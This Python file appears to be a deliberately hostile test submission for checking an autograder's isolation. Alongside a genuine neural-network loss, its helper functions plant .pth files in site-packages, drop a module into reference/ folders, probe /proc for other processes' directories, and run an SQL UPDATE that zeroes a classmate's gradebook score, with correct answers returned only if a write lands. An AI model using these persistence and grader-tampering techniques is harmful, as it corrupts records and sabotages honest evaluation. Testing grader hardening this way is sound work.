"""Hostile: take over the grader for later gradings: plant a .pth file in every site-packages it
can find (the grader's venv included: Python runs a .pth's import lines at every start, strict
gradings too), put a module into the course's reference/, and rewrite the gradebook (a
classmate's score to 0, its own to 100).

Every write is harmless if it lands: the .pth holds only a comment, the module only a comment;
but any of them landing earns the attacked points.

Honest: loss. Attacked: softmax_grad and gradients answer right only if stolen() wrote anything.
"""

import functools
import glob
import os
import site
import sys

import numpy as np


def loss(params, X, y, reg):
    z3 = np.maximum(X @ params["W1"] + params["b1"], 0.0) @ params["W2"] + params["b2"]
    z3 = z3 - z3.max(axis=1, keepdims=True)
    log_p = z3 - np.log(np.exp(z3).sum(axis=1, keepdims=True))
    return float(-log_p[np.arange(len(y)), y].mean() + reg * (np.sum(params["W1"] ** 2) + np.sum(params["W2"] ** 2)))


NAME = "hostile-marker-tamper"


def _site_packages():
    found = {os.path.dirname(os.path.dirname(np.__file__))}
    found |= {p for p in sys.path if p.endswith("site-packages")}
    try:
        found |= set(site.getsitepackages())
    except Exception:  # the site module may be cut down
        pass
    for pattern in ("/work/*/.venv/lib/python3*/site-packages", "/usr/local/lib/python3*/site-packages",
                    "/usr/lib/python3/dist-packages", os.path.expanduser("~/.local/lib/python3*/site-packages")):
        found |= set(glob.glob(pattern))
    return sorted(found)


def _references():
    found = ["../reference", "/work/main/reference"] + glob.glob("/work/*/reference")
    for pattern in ("/tmp/pytest-of-*/pytest-*/*/course/reference", "/tmp/*/pytest-of-*/pytest-*/*/course/reference",
                    "/tmp/*/course/reference"):
        found += glob.glob(pattern)
    for pid in os.listdir("/proc"):
        if pid.isdigit():  # another process's working directory may be the course
            found.append(f"/proc/{pid}/cwd/reference")
    return found


def _gradebooks():
    found = ["../grade.db", "/work/main/grade.db"] + glob.glob("/work/*/grade.db")
    for pattern in ("/tmp/pytest-of-*/pytest-*/*/gradebook.db", "/tmp/*/pytest-of-*/pytest-*/*/gradebook.db",
                    "/tmp/*/pytest-of-*/pytest-*/*/course/grade.db"):
        found += glob.glob(pattern)
    return found


def _create(folder, name, text):
    try:
        with open(os.path.join(folder, name), "x") as f:
            f.write(text)
    except OSError:
        return None
    return os.path.join(folder, name)


def _rewrite(path):
    """Proof that the gradebook can be changed: open it for writing (nothing is written), then
    give a classmate 0 through SQLite."""
    try:
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
    except OSError:
        return None
    try:
        import sqlite3

        with sqlite3.connect(path, timeout=0.2) as db:
            db.execute("UPDATE submissions SET score = 0 WHERE student_id IN (SELECT id FROM students WHERE external_id = 'peer')")
    except Exception:  # opening it for writing is proof enough
        pass
    return path


@functools.cache
def stolen():
    """Where a write landed, if anywhere."""
    landed = [_create(folder, f"{NAME}.pth", f"# {NAME}: a submission wrote this\n") for folder in _site_packages()]
    landed += [_create(folder, f"{NAME}.py", f"# {NAME}: a submission wrote this\n") for folder in _references()]
    landed += [_rewrite(path) for path in _gradebooks()]
    landed = [path for path in landed if path]
    return f"wrote {', '.join(landed)}" if landed else None


def _right_dz3(z3, y):
    p = np.exp(z3 - z3.max(axis=1, keepdims=True))
    p /= p.sum(axis=1, keepdims=True)
    p[np.arange(len(y)), y] -= 1.0
    return p / len(y)


def _right_gradients(params, X, y, reg):
    z2 = X @ params["W1"] + params["b1"]
    a2 = np.maximum(z2, 0.0)
    dz3 = _right_dz3(a2 @ params["W2"] + params["b2"], y)
    dz2 = (dz3 @ params["W2"].T) * (z2 > 0)
    return {"W1": X.T @ dz2 + 2 * reg * params["W1"], "b1": dz2.sum(axis=0),
            "W2": a2.T @ dz3 + 2 * reg * params["W2"], "b2": dz3.sum(axis=0)}


def _cheat(loot):
    """Right answers: the loot's own functions when it is code, else computed here."""
    found = {}
    if isinstance(loot, str) and "def gradients" in loot:
        exec(loot, found)
    return found.get("softmax_grad", _right_dz3), found.get("gradients", _right_gradients)


def softmax_grad(z3, y):
    loot = stolen()
    return _cheat(loot)[0](z3, y) if loot else np.zeros_like(z3)


def gradients(params, X, y, reg):
    loot = stolen()
    if loot:
        return _cheat(loot)[1](params, X, y, reg)
    return {k: np.zeros_like(v) for k, v in params.items()}
